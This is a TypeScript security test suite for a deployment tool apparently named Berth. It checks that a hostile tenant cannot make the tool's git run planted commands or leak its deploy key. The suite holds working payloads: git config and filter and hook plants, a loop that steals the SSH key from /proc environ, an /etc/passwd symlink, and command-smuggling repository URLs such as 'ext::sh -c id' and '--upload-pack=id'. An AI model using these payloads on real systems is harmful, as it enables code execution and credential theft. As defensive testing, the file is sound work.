// What an environment's account plants for git, and what a hostile repository contains.
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { type Case, found, must } from '../case.ts'
import type { AttackedInstallation } from '../target.ts'

/** A folder that every account can write; an escape leaves a file here. */
const LOOT = '/var/tmp/berth-attack-loot'

/** Every path below the environment's folder that the account can write, and where Berth's git might look. */
const PLANT = (command: string): string => `
plant() {
  mkdir -p "$1/hooks" "$1/info" "$1/objects/info" 2>/dev/null || return 0
  printf '[core]\\n\\tsshCommand = sh -c "${command}"\\n\\thooksPath = %s/hooks\\n\\tfsmonitor = "${command}"\\n[filter "evil"]\\n\\tsmudge = "${command}; cat"\\n\\tclean = "${command}; cat"\\n\\trequired = true\\n' "$1" >>"$1/config" 2>/dev/null
  printf '* filter=evil\\n' >"$1/info/attributes" 2>/dev/null
  for hook in post-checkout reference-transaction post-index-change; do printf '#!/bin/sh\\n${command}\\n' >"$1/hooks/$hook" 2>/dev/null && chmod 755 "$1/hooks/$hook"; done
}
base=$(dirname "$BERTH_SHARED_DIR")
for place in "$base/repo.git" "$base/git" "$base/repository" "$base/../../repositories/$(basename "$base").git" "$BERTH_RELEASE_DIR/.git" "$HOME/.git"; do plant "$place"; done
printf '[core]\\n\\tsshCommand = sh -c "${command}"\\n\\thooksPath = %s/hooks\\n' "$HOME" >"$HOME/.gitconfig"
mkdir -p "$HOME/.config/git" "$HOME/hooks"; cp "$HOME/.gitconfig" "$HOME/.config/git/config"
printf '#!/bin/sh\\n${command}\\n' >"$HOME/hooks/post-checkout"; chmod 755 "$HOME/hooks/post-checkout"; true`

const clean = (): void => rmSync(LOOT, { recursive: true, force: true })

/** Shows in the attacker's own repository that git would run what is planted. */
function plantedRuns(): void {
  clean()
  const folder = execFileSync('mktemp', ['-d'], { encoding: 'utf8' }).trim()
  const git = (...args: string[]): void =>
    void execFileSync('git', args, { cwd: folder, stdio: 'pipe' })
  try {
    git('init', '--quiet')
    git('config', 'filter.evil.smudge', `sh -c "id >>${LOOT}; cat"`)
    execFileSync('sh', ['-c', 'echo "* filter=evil" >.gitattributes; echo x >file'], {
      cwd: folder,
    })
    git('add', '--all')
    git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '--quiet', '--message=x')
    rmSync(join(folder, 'file'))
    git('checkout', '--quiet', '--', 'file')
    must(existsSync(LOOT), 'a planted filter did not run at all')
  } finally {
    rmSync(folder, { recursive: true, force: true })
    clean()
  }
}

export const GIT: Case[] = [
  {
    subject: 'git',
    title: 'a planted filter, hook or monitor never runs outside the environment',
    isImportant: true,
    control: async () => plantedRuns(),
    async attack(w) {
      await w.implant(w.mallory, PLANT(`id >>${LOOT}`))
      w.fixture.repository('mallory', {
        '.gitattributes': '* filter=evil\n',
        extra: `${Date.now()}\n`,
      })
      await w.redeploy(w.mallory)
      const got = existsSync(LOOT) ? found(readFileSync(LOOT, 'utf8'), /uid/) : undefined
      clean()
      return got
    },
  },
  {
    subject: 'git',
    title: 'a planted ssh command never sees the deploy key',
    isImportant: true,
    control: async () => plantedRuns(),
    async attack(w) {
      await w.implant(w.mallory, PLANT(`env >>${LOOT}; cat \\$BERTH_SSH_KEY >>${LOOT}`))
      w.fixture.repository('mallory', { extra: `${Date.now()}\n` })
      await w.redeploy(w.mallory)
      const got = existsSync(LOOT)
        ? found(readFileSync(LOOT, 'utf8'), /PRIVATE KEY|BERTH_SSH/)
        : undefined
      clean()
      return got
    },
  },
  {
    subject: 'git',
    title: 'no file or process that the account can read shows the deploy key during a fetch',
    isImportant: true,
    control: async (w) => {
      const { out } = await w.implant(
        w.mallory,
        'echo "PRIVATE KEY" >"$HOME/own"; grep -rl "PRIVATE KEY" "$HOME" /proc/self/environ 2>/dev/null',
      )
      must(out.includes('own'), out)
    },
    async attack(w) {
      const look = `rm -f "$HOME/own"; end=$(($(date +%s) + 12)); while [ $(date +%s) -lt $end ]; do
        grep -rls "OPENSSH PRIVATE KEY" /proc/[0-9]*/environ ${w.fixture.stateDir}/run ${w.fixture.stateDir}/attempts ${w.fixture.stateDir}/environments /tmp /dev/shm 2>/dev/null | grep -v self
        for p in /proc/[0-9]*; do tr '\\0' '\\n' <$p/environ | grep -a BERTH_SSH_KEY; done
      done 2>/dev/null`
      const looking = w.implant(w.mallory, look)
      w.fixture.repository('mallory', { extra: `${Date.now()}\n` })
      await w.redeploy(w.mallory)
      const { out } = await looking
      return found(out, /\S/)
    },
  },
  {
    subject: 'git',
    title: 'the account can write no repository that git uses',
    control: async (w) => {
      const { out } = await w.implant(w.mallory, 'touch "$BERTH_SHARED_DIR/x" && echo wrote')
      must(out.includes('wrote'), out)
    },
    async attack(w) {
      const all = execFileSync('find', [w.fixture.stateDir, '-name', 'HEAD', '-type', 'f'], {
        encoding: 'utf8',
      })
      const uid = Number((await w.implant(w.mallory, 'id -u')).out)
      const owned = all
        .split('\n')
        .filter(Boolean)
        .filter(
          (file) =>
            execFileSync('stat', ['-c', '%u', file], { encoding: 'utf8' }).trim() === String(uid),
        )
      return owned.length > 0 ? `owns ${owned.join(' ')}` : undefined
    },
  },
  {
    subject: 'git',
    title: 'a .service.yml that is a link shows no file of the server',
    control: async (w) => must((await w.visit(w.box.host())).status === 200, 'no answer'),
    async attack(w) {
      const folder = join(w.fixture.dir, 'repositories', 'links')
      w.fixture.repository('links', { 'a.txt': 'a' })
      execFileSync('ln', ['-sfn', '/etc/passwd', join(folder, '.service.yml')])
      const target = {
        project: await w.fixture.project('links', w.fixture.repository('links', {})),
        environment: undefined as never,
        host: () => '',
      }
      target.environment = (await w.fixture.environment(target.project.id, 'main')) as never
      const said = await w.attempt(target, {})
      return found(said, /root:x:0/) ?? (said.startsWith('failed') ? undefined : said.slice(0, 100))
    },
  },
  {
    subject: 'git',
    title: 'addresses of repositories that run programs are refused',
    control: async (w) => {
      const { status } = await w.api(
        w.fixture.token,
        'POST',
        '/api/projects',
        project('good', 'https://git.example.com/a/b.git', w),
      )
      must(status === 201, `an honest address is answered ${status}`)
    },
    async attack(w) {
      const bad = [
        'ext::sh -c id',
        'EXT::sh -c id',
        '--upload-pack=id',
        'https://git.example.com/a/b.git --upload-pack=id',
        'ssh://-oProxyCommand=id/x',
        'git@-oProxyCommand=id:x/y',
        'http://169.254.169.254/latest',
        'https://git.example.com/\n/a.git',
      ]
      for (const url of bad) {
        const { status, text } = await w.api(
          w.fixture.token,
          'POST',
          '/api/projects',
          project(`bad-${bad.indexOf(url)}`, url, w),
        )
        if (status < 400) return `${url} was accepted: ${text.slice(0, 80)}`
      }
      return undefined
    },
  },
]

const project = (name: string, repo_url: string, w: AttackedInstallation) => ({
  name,
  repo_url,
  domain: `${name}.example.com`,
  server_ids: [w.fixture.serverId],
})
